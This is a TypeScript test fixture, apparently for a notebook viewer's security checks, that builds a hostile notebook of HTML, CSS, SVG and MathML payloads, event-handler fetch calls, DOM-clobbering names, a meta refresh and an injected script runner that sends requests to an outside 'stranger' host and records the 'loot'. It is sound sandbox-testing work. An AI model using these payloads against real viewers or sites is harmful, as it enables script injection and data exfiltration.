/**
 * The hostile notebook: cells that try everything in `attempts.ts`, and markup that needs no script.
 */
import type { Attempt, Attempts } from './attempts';
import { AROUND, AT_ONCE, BY_A_CLICK, LEAVING } from './attempts';
import type { ICell } from './library';
import { markdown, shows } from './library';

/** What needs no script: the parser and the style sheets do it. */
export function withoutScripts(stranger: string): { [name: string]: string } {
  const to = (name: string): string => `${stranger}/still/${name}`;
  return {
    images: `<img src="${to('img')}"><img srcset="${to('srcset')} 2x">
      <picture><source srcset="${to('source')}"><img></picture>
      <input type="image" src="${to('input')}"><table background="${to('table')}"></table>
      <body background="${to('body')}">`,
    media: `<video src="${to('video')}" poster="${to('poster')}" autoplay></video>
      <audio src="${to('audio')}" autoplay></audio><video><track src="${to('track')}" default></video>`,
    frames: `<iframe src="${to('frame')}"></iframe><iframe srcdoc="<img src='${to('srcdoc')}'>"></iframe>
      <iframe src="data:text/html,<img src=${to('data')}>"></iframe><frameset><frame src="${to('set')}"></frameset>
      <object data="${to('object')}"></object><embed src="${to('embed')}"><applet code="${to('applet')}"></applet>`,
    links: `<link rel="stylesheet" href="${to('style')}"><link rel="preload" as="image" href="${to('preload')}">
      <link rel="prefetch" href="${to('prefetch')}"><link rel="icon" href="${to('icon')}">
      <link rel="manifest" href="${to('manifest')}"><link rel="dns-prefetch" href="${to('dns')}">`,
    metas: `<meta http-equiv="set-cookie" content="mine=1"><meta name="referrer" content="unsafe-url">
      <meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${to('report')}">`,
    'a base': `<base href="${to('base')}/" target="_top"><img src="relative.png">`,
    styles: `<style>@import url(${to('import')});
      @font-face { font-family: stolen; src: url(${to('face')}) }
      body { font-family: stolen; background: url(${to('background')}); cursor: url(${to('cursor')}), auto }
      h1[class^='a'], main { list-style: url(${to('list')}) inside; border-image: url(${to('border')}) 1 }
      main::after { content: url(${to('content')}) } main { mask: url(${to('mask')}#x); filter: url(${to('filter')}#x) }
      .page { background-image: image-set("${to('set')}" 1x); shape-outside: url(${to('shape')}) }
      input[value^='a'] { background: url(${to('value')}) } a:visited { background: url(${to('visited')}) }</style>
      <p style="background: url(${to('inline')})">styled</p>`,
    drawings: `<svg><use href="${to('use')}#a"/><image href="${to('image')}" width="9" height="9"/>
      <script href="${to('script')}"></script><feImage href="${to('fe')}"/>
      <foreignObject><iframe src="${to('foreign')}"></iframe></foreignObject>
      <a href="javascript:top.taken=1"><animate attributeName="href" values="${to('animate')}"/><text y="9">x</text></a></svg>`,
    formulas: `<math href="javascript:top.taken=1"><maction actiontype="statusline#${to('status')}">x
      <mtext><img src="${to('mtext')}"></mtext></maction><annotation-xml encoding="text/html"><img src="${to('annotation')}">
      </annotation-xml></math>`,
    handlers: `<img src="x" onerror="fetch('${to('onerror')}')"><svg onload="fetch('${to('onload')}')"></svg>
      <details open ontoggle="fetch('${to('ontoggle')}')"></details><input autofocus onfocus="fetch('${to('onfocus')}')">`,
    names: `<form name="body"><input name="parentNode"></form><img name="getElementById"><a id="location" href="${to('id')}">a</a>
      <form id="hubPublish"><input name="type"></form>`,
    'a form that sends itself': `<form action="${to('form')}"><input name="q" value="secret"><button id="send">Send</button></form>`
  };
}

/** The cells of the notebook; `stranger` is where everything should arrive. */
export function hostileCells(stranger: string): ICell[] {
  const still = Object.entries(withoutScripts(stranger)).map(([name, html]) =>
    shows(`# ${name}`, { 'text/html': html })
  );
  const lists = [AT_ONCE, AROUND, BY_A_CLICK, LEAVING].map(listed).join(', ');
  const call = `(${runner.toString()})(${JSON.stringify(stranger)}, ${lists})`;
  return [
    markdown(`# A friendly report\n\n<script>window.ran = 'markdown'</script>`),
    shows('attack()', { 'text/html': `<script>${call}</script>` }),
    ...still
  ];
}

/** A report that wants to be another document at once. */
export function refreshingCells(stranger: string): ICell[] {
  const meta = `<meta http-equiv="refresh" content="0;url=${stranger}/refresh">`;
  return [markdown(`# Elsewhere\n\n${meta}`)];
}

function listed(attempts: Attempts): string {
  const lines = Object.entries(attempts).map(
    ([name, attempt]) => `[${JSON.stringify(name)}, ${attempt.toString()}]`
  );
  // A script element ends at the first end tag, wherever that stands.
  return `[${lines.join(',\n').replaceAll('</', '<\\/')}]`;
}

/** Runs in the page: tries everything, and writes down what came of it. */
function runner(
  stranger: string,
  atOnce: [string, Attempt][],
  around: [string, Attempt][],
  byClick: [string, Attempt][],
  leaving: [string, Attempt][]
): void {
  // One of the attempts puts other things in the place of such methods.
  const create = document.createElement.bind(document);
  const loot = create('pre');
  const press = create('button');
  loot.id = 'loot';
  press.id = 'press';
  press.textContent = 'Press here';
  document.currentScript!.parentElement!.append(press, loot);

  // Not read from the document: its methods are not to be trusted then.
  const results: string[] = [];
  Object.assign(window, { loot: { results, done: 0 } });

  const tryOut = ([name, attempt]: [string, Attempt]): Promise<unknown> => {
    const plain = name.replaceAll(' ', '-').replaceAll("'", '');
    const url = `${stranger}/${encodeURIComponent(plain)}`;
    const late = new Promise(resolve => setTimeout(() => resolve(''), 2500));
    return Promise.race([new Promise(go => go(attempt(url))), late]).then(
      got => {
        const what = got ? `got: ${String(got).slice(0, 80)}` : 'nothing';
        results.push(`${name}: ${what}`);
      },
      error => results.push(`${name}: refused: ${error?.name ?? error}`)
    );
  };

  const all = async (list: [string, Attempt][]): Promise<void> => {
    results.length = 0;
    await Promise.all(list.map(tryOut));
    loot.textContent = results.join('\n');
    (window as unknown as { loot: { done: number } }).loot.done += 1;
  };

  // Where the reader wants to go is told by the shell.
  let wish = '';
  window.addEventListener('message', ({ data }) => {
    if (data?.type === 'jump') {
      wish = decodeURIComponent(data.fragment);
    }
  });
  const begin = (): void => {
    const one = leaving.find(([name]) => wish === `leave ${name}`);
    if (one) {
      console.debug(wish); // the test knows by this that it is tried, and when
      void tryOut(one);
    } else {
      void all(window.parent === window ? atOnce : [...around, ...atOnce]);
    }
  };

  press.addEventListener('click', () => void all(byClick));
  window.addEventListener('load', () => {
    if (window.location.search.includes('print')) {
      window.alert('x');
    } else {
      setTimeout(begin, 300);
    }
  });
}
